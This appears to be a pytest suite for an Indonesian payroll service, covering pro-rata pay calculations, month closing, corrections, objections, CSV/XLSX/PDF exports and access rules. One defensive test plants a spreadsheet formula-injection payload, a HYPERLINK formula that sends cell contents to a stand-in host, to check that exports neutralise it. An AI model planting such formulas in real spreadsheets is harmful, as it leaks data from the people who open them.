"""The payroll of a unit-month in Rupiah: hand-worked figures (pro rata, status share, rounding), totals
equal to the sum of the rows, the month close and recorded corrections, the reports (CSV for Excel in
Indonesian, XLSX ready to print, PDF) and who may see which unit's payroll."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from scoring import GradeAssignment
from server.models import Employee
from server.payroll_models import EmployeeGrade
from server.services.accounts import Role
from server.services.payroll import allowance_input, pay_line
from server.services.payroll_exports import period_words
from tests.web_seed import ANI, BUDI, CITRA, WIB, World, add_punch, web_world

MAY = [date(2025, 5, d) for d in range(1, 32)]
WEEKDAYS = [d for d in MAY if d.weekday() < 5]


def _explained(late: dict[date, int] | None = None, absent: tuple[date, ...] = (), performance_bp: int = 9_000) -> dict:
    days = []
    for day in MAY:
        entry: dict = {"date": day.isoformat(), "planned": "07:30-16:00"}
        if day in WEEKDAYS:
            if day in absent:
                entry.update(status="absent", codes=["TK"], deduction_bp=500, late_minutes=0, early_minutes=0)
            elif late and day in late:
                entry.update(status="late", codes=["TL1"], deduction_bp=50, late_minutes=late[day], early_minutes=0)
            else:
                entry.update(status="present", codes=[], deduction_bp=0, late_minutes=0, early_minutes=0)
        days.append(entry)
    return {"days": days, "summary": {"performance_bp": performance_bp}}


def _employee(nip: str = BUDI) -> Employee:
    return Employee(nip=nip, name="Budi Santoso", position="Analis", unit_id="dir-1")


def _strings(value: object) -> list[str]:
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return [value] if isinstance(value, str) else []


def test_a_transfer_mid_month_pays_each_grade_pro_rata_and_rounds_once_half_up():
    grades = [GradeAssignment(date(2025, 1, 1), date(2025, 5, 14), 7), GradeAssignment(date(2025, 5, 15), None, 9)]
    line = pay_line(_employee(), 2025, 5, _explained({date(2025, 5, 6): 20}, (date(2025, 5, 7),)), grades)
    # gross: 3,915,950 x 14/31 + 5,079,200 x 17/31 = 141,169,700 / 31 = 4,553,861.29 -> Rp 4,553,861
    assert line.gross == 4_553_861
    # discipline cut: TL1 0.5 % + TK 5 % = 5.5 %; paid: 60 % x 90 % + 40 % x 94.5 % = 91.8 %
    # net: 4,553,861 x 0.918 = 4,180,444.398 -> Rp 4,180,444; cut = gross - net
    assert (line.net, line.cut, line.deduction_bp) == (4_180_444, 373_417, 820)
    assert line.grade == "7/9"
    assert line.explain["gross"]["segments"][1]["share"] == "17/31"
    # The trace reads in Indonesian: its sentences and percentages; codes, names and numbers as they were.
    net, discipline = line.explain["net"], line.explain["discipline"]
    assert net["formula"] == "dibayar = 60% × kinerja 90% + 40% × (100% − potongan 5,5%)", net["formula"]
    assert net["rule"].startswith("neto = bruto Rp 4.553.861 × bagian dibayar, dibulatkan"), net["rule"]
    assert net["deduction"] == "8,2%" and net["net"] == 4_180_444
    assert "per hari tidak hadir" in discipline["absence_rule"] or "presensi" in discipline["absence_rule"]
    assert "berlaku sejak" in line.explain["gross"]["segments"][0]["table"]
    assert line.explain["summary"]["deduction_bp"] == 820 and line.explain["discipline"]["days"][0]["codes"] == ["TL1"]
    words = " ".join(_strings(line.explain))  # the values a person reads; the keys are the API's names
    for english in ("paid =", "rounded", "per hour", "per day", "performance", "(from", "exactly", "result ("):
        assert english not in words, english


def test_a_recruit_is_paid_80_percent_and_a_start_mid_month_rounds_up_at_the_half():
    cpns = [GradeAssignment(date(2025, 5, 1), None, 7, "cpns")]
    line = pay_line(_employee(), 2025, 5, _explained(performance_bp=10_000), cpns)
    assert (line.gross, line.net, line.cut, line.status) == (3_132_760, 3_132_760, 0, "cpns")  # 3,915,950 x 80 %
    starter = [GradeAssignment(date(2025, 5, 20), None, 1)]
    line = pay_line(_employee(), 2025, 5, _explained(performance_bp=10_000), starter)
    # 2,531,250 x 12/31 = 979,838.71 -> Rp 979,839 (half up: .71 goes up)
    assert line.gross == 979_839


def test_the_input_takes_only_scored_days_from_the_stored_explanation():
    month = allowance_input(BUDI, 2025, 5, _explained(absent=(date(2025, 5, 2),)), [])
    assert month.working_days == tuple(WEEKDAYS)
    assert [d.day for d in month.attendance if d.absent] == [date(2025, 5, 2)]
    assert month.performance_bp == 9_000


def test_the_period_is_written_in_indonesian():
    assert period_words(2025, 5) == "Mei 2025"
    assert period_words(2026, 2) == "Februari 2026"


# --- through the API, on a real database -------------------------------------------------------------

MONTH = (datetime.now(WIB).date().replace(day=1) - timedelta(days=1)).replace(day=1)
MONTH_TEXT = MONTH.strftime("%Y-%m")


@pytest.fixture
async def world(db_url):
    async with web_world(db_url) as w:
        day = MONTH
        while day.month == MONTH.month:  # Ani and Citra on time every weekday, Budi 45 minutes late
            if day.weekday() < 5:
                at = datetime(day.year, day.month, day.day, tzinfo=WIB)
                await add_punch("dir-1", "1", at.replace(hour=7, minute=20))
                await add_punch("dir-1", "1", at.replace(hour=17, minute=0), 1)
                await add_punch("dir-1", "2", at.replace(hour=8, minute=15))
                await add_punch("dir-1", "2", at.replace(hour=17, minute=0), 1)
                await add_punch("dir-2", "1", at.replace(hour=7, minute=25), device="DEV-DIR2")
                await add_punch("dir-2", "1", at.replace(hour=17, minute=5), 1, device="DEV-DIR2")
            day += timedelta(days=1)
        for nip, grade, status in ((ANI, 9, "pns"), (BUDI, 7, "cpns"), (CITRA, 8, "pns")):
            response = await w.client.post(
                f"/api/v1/employees/{nip}/grades",
                headers=w.auth(Role.BUREAU_ADMIN),
                json={"grade": grade, "status": status, "from": "2020-01-01"},
            )
            assert response.status == 201, await response.text()
        yield w


async def _payroll(world: World, unit: str = "dir-1", role: Role = Role.BUREAU_ADMIN) -> dict:
    response = await world.client.get(
        "/api/v1/payroll", params={"unit": unit, "month": MONTH_TEXT}, headers=world.auth(role)
    )
    assert response.status == 200, await response.text()
    return await response.json()


async def test_the_totals_are_the_sums_of_the_rows_and_each_row_adds_up(world: World):
    sheet = await _payroll(world)
    assert not sheet["final"]
    assert {line["nip"] for line in sheet["lines"]} == {ANI, BUDI}
    for line in sheet["lines"]:
        assert line["gross"] - line["cut"] == line["net"]
        assert 0 <= line["net"] <= line["gross"]
    for name in ("gross", "cut", "net"):
        assert sheet["totals"][name] == sum(line[name] for line in sheet["lines"])
    by_nip = {line["nip"]: line for line in sheet["lines"]}
    assert by_nip[ANI]["gross"] == 5_079_200  # grade 9, the whole month
    assert by_nip[BUDI]["gross"] == 3_132_760  # grade 7 as CPNS: 80 % of 3,915,950
    assert by_nip[BUDI]["net"] < by_nip[BUDI]["gross"]  # late every day


async def test_a_closed_month_does_not_change_silently_and_a_correction_is_recorded(world: World):
    bureau = world.auth(Role.BUREAU_ADMIN)
    body = {"unit": "dir-1", "month": MONTH_TEXT}
    response = await world.client.post("/api/v1/payroll/close", json=body, headers=bureau)
    assert response.status == 201, await response.text()
    closed = await response.json()
    assert closed["final"] and closed["closed_by"] == "biro"
    assert (await world.client.post("/api/v1/payroll/close", json=body, headers=bureau)).status == 409

    # Budi's grade is corrected after the close: the closed payroll keeps its figures ...
    response = await world.client.post(
        f"/api/v1/employees/{BUDI}/grades", headers=bureau, json={"grade": 7, "status": "pns", "from": "2020-01-01"}
    )
    assert response.status == 201
    after = await _payroll(world)
    assert after["lines"] == closed["lines"] and after["corrections"] == []

    # ... until the bureau records a correction, which says who, when and why.
    response = await world.client.post(
        "/api/v1/payroll/corrections",
        headers=bureau,
        json={**body, "nip": BUDI, "reason": "SK pengangkatan PNS terlambat"},
    )
    assert response.status == 201, await response.text()
    corrected = await response.json()
    budi = next(line for line in corrected["lines"] if line["nip"] == BUDI)
    assert budi["gross"] == 3_915_950 and budi["status"] == "pns"
    (correction,) = corrected["corrections"]
    assert correction["corrected_by"] == "biro" and correction["reason"] == "SK pengangkatan PNS terlambat"
    assert correction["gross_before"] == 3_132_760 and correction["gross_after"] == 3_915_950
    assert corrected["totals"]["net"] == sum(line["net"] for line in corrected["lines"])

    response = await world.client.get("/api/v1/exports/payroll.csv", params=body, headers=bureau)
    text = (await response.read()).decode("utf-8-sig")
    assert "SK pengangkatan PNS terlambat" in text and "SEMENTARA" not in text

    audit = await (await world.client.get("/api/v1/audit", headers=bureau)).json()
    actions = [item["action"] for item in audit["items"]]
    assert actions[:3] == ["payroll.correct", "grade.set", "month.close"]
    assert all(item["username"] == "biro" for item in audit["items"])


async def test_an_upheld_objection_to_a_closed_months_result_is_a_recorded_correction(world: World):
    """The employee objects to the month's result after the close; the bureau upholds it: the payroll line is
    recomputed as a late correction that says who, when and why, and the payroll report shows it."""
    from server.services.objections import decide_objection, file_objection
    from tests.test_requests import principal

    bureau = world.auth(Role.BUREAU_ADMIN)
    body = {"unit": "dir-1", "month": MONTH_TEXT}
    assert (await world.client.post("/api/v1/payroll/close", json=body, headers=bureau)).status == 201
    grade = {"grade": 7, "status": "pns", "from": "2020-01-01"}  # the appointment as PNS, known late
    assert (await world.client.post(f"/api/v1/employees/{BUDI}/grades", headers=bureau, json=grade)).status == 201
    budi, biro = await principal("budi"), await principal("biro")
    in_time = datetime.combine(MONTH.replace(day=28) + timedelta(days=10), datetime.min.time(), WIB)
    objection = await file_objection(
        budi, {"subject": "month", "month": MONTH_TEXT, "reason": "saya sudah PNS, dibayar sebagai CPNS"}, now=in_time
    )
    decided = await decide_objection(biro, objection.id, "uphold", "SK PNS terlambat diterima biro")
    assert (decided.status, decided.remedy) == ("upheld", "correction")
    sheet = await _payroll(world)
    (correction,) = sheet["corrections"]
    assert correction["corrected_by"] == "biro" and correction["nip"] == BUDI
    assert correction["reason"] == f"keberatan #{objection.id} dikabulkan: SK PNS terlambat diterima biro"
    assert (correction["gross_before"], correction["gross_after"]) == (3_132_760, 3_915_950)
    assert decided.remedy_ref and correction["corrected_at"]
    budi_line = next(line for line in sheet["lines"] if line["nip"] == BUDI)
    assert budi_line["gross"] == 3_915_950
    text = (await (await world.client.get("/api/v1/exports/payroll.csv", params=body, headers=bureau)).read()).decode(
        "utf-8-sig"
    )
    assert f"keberatan #{objection.id} dikabulkan" in text
    audit = await (await world.client.get("/api/v1/audit", headers=bureau)).json()
    assert [item["action"] for item in audit["items"]][:2] == ["objection.uphold", "payroll.correct"]


async def test_an_upheld_objection_to_an_open_months_result_records_no_correction(world: World):
    from server.services.objections import decide_objection, file_objection
    from tests.test_requests import principal

    budi, biro = await principal("budi"), await principal("biro")
    in_time = datetime.combine(MONTH.replace(day=28) + timedelta(days=10), datetime.min.time(), WIB)
    objection = await file_objection(budi, {"subject": "month", "month": MONTH_TEXT, "reason": "TK salah"}, now=in_time)
    decided = await decide_objection(biro, objection.id, "uphold", "dihitung ulang")
    assert (decided.status, decided.remedy) == ("upheld", "")  # the open month's figures are live
    assert (await _payroll(world))["corrections"] == []


async def test_a_correction_of_an_open_month_is_refused(world: World):
    response = await world.client.post(
        "/api/v1/payroll/corrections",
        headers=world.auth(Role.BUREAU_ADMIN),
        json={"unit": "dir-1", "month": MONTH_TEXT, "nip": BUDI, "reason": "x"},
    )
    assert response.status == 409


async def test_the_csv_opens_right_in_excel_set_to_indonesian(world: World):
    response = await world.client.get(
        "/api/v1/exports/payroll.csv",
        params={"unit": "dir-1", "month": MONTH_TEXT},
        headers=world.auth(Role.BUREAU_ADMIN),
    )
    assert response.status == 200
    assert "SEMENTARA" in response.headers["Content-Disposition"]
    raw = await response.read()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == ["SEMENTARA - bulan belum ditutup, angka dapat berubah"]
    header = rows.index(next(r for r in rows if r and r[0] == "No"))
    budi = next(r for r in rows[header + 1 :] if r[1] == f'="{BUDI}"')
    assert "," in budi[7] and "." not in budi[7]  # Potongan (%) with a decimal comma
    assert budi[6] == "3132760"
    total = next(r for r in rows if len(r) > 2 and r[2] == "JUMLAH")
    lines = [r for r in rows[header + 1 :] if r[0].isdigit()]
    assert int(total[9]) == sum(int(r[9]) for r in lines)
    assert any(f"Bulan {period_words(MONTH.year, MONTH.month)}" in r[0] for r in rows if r)


async def test_names_that_look_like_formulas_stay_text(world: World):
    await Employee.filter(nip=BUDI).update(name='=HYPERLINK("http://x/?"&B2,"Budi")', position="+Analis")
    response = await world.client.get(
        "/api/v1/exports/payroll.csv",
        params={"unit": "dir-1", "month": MONTH_TEXT},
        headers=world.auth(Role.BUREAU_ADMIN),
    )
    rows = list(csv.reader(io.StringIO((await response.read()).decode("utf-8-sig")), delimiter=";"))
    budi = next(r for r in rows if len(r) > 2 and r[1] == f'="{BUDI}"')
    assert budi[2].startswith("'=") and budi[3] == "'+Analis"
    response = await world.client.get(
        "/api/v1/exports/payroll.xlsx",
        params={"unit": "dir-1", "month": MONTH_TEXT},
        headers=world.auth(Role.BUREAU_ADMIN),
    )
    ws = load_workbook(io.BytesIO(await response.read())).active
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value.startswith("=")]
    assert cells and all(c.data_type == "s" for c in cells)


async def test_the_xlsx_is_ready_to_print_and_says_sementara_while_open(world: World):
    params = {"unit": "dir-1", "month": MONTH_TEXT}
    bureau = world.auth(Role.BUREAU_ADMIN)
    await world.client.post(
        "/api/v1/units/dir-1/signatories",
        headers=bureau,
        json={
            "head_name": "Dra. Sri Rahayu",
            "head_nip": "197001011995032001",
            "head_title": "Direktur Satu",
            "treasurer_name": "Agus Salim",
            "treasurer_nip": "198202022008011002",
            "office_heading": "Kementerian Contoh",
        },
    )
    ws = load_workbook(
        io.BytesIO(await (await world.client.get("/api/v1/exports/payroll.xlsx", params=params, headers=bureau)).read())
    ).active
    assert ws.oddHeader.center.text == "SEMENTARA"
    assert ws.page_setup.orientation == "landscape" and ws.sheet_properties.pageSetUpPr.fitToPage
    header_row = next(c.row for c in ws["A"] if c.value == "No")
    assert ws.print_title_rows == f"${header_row}:${header_row}"
    assert ws.freeze_panes == f"C{header_row + 1}"
    nips = [ws.cell(r, 2) for r in range(header_row + 1, header_row + 3)]
    assert {c.value for c in nips} == {ANI, BUDI} and all(c.data_type == "s" and c.number_format == "@" for c in nips)
    values = [row for row in ws.iter_rows(values_only=True)]
    total = next(r for r in values if r[2] == "JUMLAH")
    assert total[9] == sum(r[9] for r in values[header_row : header_row + 2])
    flat = " ".join(str(v) for r in values for v in r if v)
    assert "Dra. Sri Rahayu" in flat and "NIP 198202022008011002" in flat and "KEMENTERIAN CONTOH" in flat

    await world.client.post("/api/v1/payroll/close", json=params, headers=bureau)
    ws = load_workbook(
        io.BytesIO(await (await world.client.get("/api/v1/exports/payroll.xlsx", params=params, headers=bureau)).read())
    ).active
    assert not ws.oddHeader.center.text
    assert "SEMENTARA" not in " ".join(str(v) for r in ws.iter_rows(values_only=True) for v in r if v)


async def test_the_pdf_says_sementara_on_every_page_while_open(world: World):
    # Enough employees for more than one page.
    for n in range(40):
        nip = f"1995010120200110{n:02d}"
        await Employee.create(nip=nip, name=f"Pegawai {n:02d}", unit_id="dir-1")
        await EmployeeGrade.create(nip=nip, grade=5, first_day=date(2020, 1, 1))
    params = {"unit": "dir-1", "month": MONTH_TEXT}
    response = await world.client.get(
        "/api/v1/exports/payroll.pdf", params=params, headers=world.auth(Role.BUREAU_ADMIN)
    )
    assert response.status == 200 and response.content_type == "application/pdf"
    reader = PdfReader(io.BytesIO(await response.read()))
    assert len(reader.pages) >= 2
    assert all("SEMENTARA" in page.extract_text() for page in reader.pages)
    text = "".join(page.extract_text() for page in reader.pages)
    assert "JUMLAH" in text and BUDI in text


async def test_each_role_sees_only_its_units_payroll(world: World):
    params = {"unit": "dir-1", "month": MONTH_TEXT}
    for path in (
        "/api/v1/payroll",
        "/api/v1/exports/payroll.csv",
        "/api/v1/exports/payroll.xlsx",
        "/api/v1/exports/payroll.pdf",
    ):
        assert (await world.client.get(path, params=params, headers=world.auth(Role.UNIT_ADMIN))).status == 404
        ok = await world.client.get(path, params={**params, "unit": "dir-2"}, headers=world.auth(Role.UNIT_ADMIN))
        assert ok.status == 200
        for role in (Role.SUPERVISOR, Role.EMPLOYEE, Role.OPERATIONS):
            assert (await world.client.get(path, params=params, headers=world.auth(role))).status == 403
    closing = await world.client.post(
        "/api/v1/payroll/close", json={"unit": "dir-2", "month": MONTH_TEXT}, headers=world.auth(Role.UNIT_ADMIN)
    )
    assert closing.status == 403
    assert (await world.client.get("/api/v1/audit", headers=world.auth(Role.UNIT_ADMIN))).status == 403
    grades = await world.client.get(f"/api/v1/employees/{CITRA}/grades", headers=world.auth(Role.EMPLOYEE))
    assert grades.status == 404


async def test_a_correction_for_someone_with_no_grade_that_month_is_refused_not_a_server_error(world: World):
    """Found by schemathesis: the sheet has no line for an employee without a grade that month, and a
    correction of that line answered 500 ("no grade held")."""
    bureau = world.auth(Role.BUREAU_ADMIN)
    body = {"unit": "dir-1", "month": MONTH_TEXT}
    assert (await world.client.post("/api/v1/payroll/close", json=body, headers=bureau)).status == 201
    await EmployeeGrade.filter(nip=BUDI).delete()
    response = await world.client.post(
        "/api/v1/payroll/corrections", headers=bureau, json={**body, "nip": BUDI, "reason": "SK terlambat"}
    )
    assert response.status == 409, await response.text()
    assert "no grade held" in (await response.json())["reason"]
    assert (await _payroll(world))["corrections"] == []
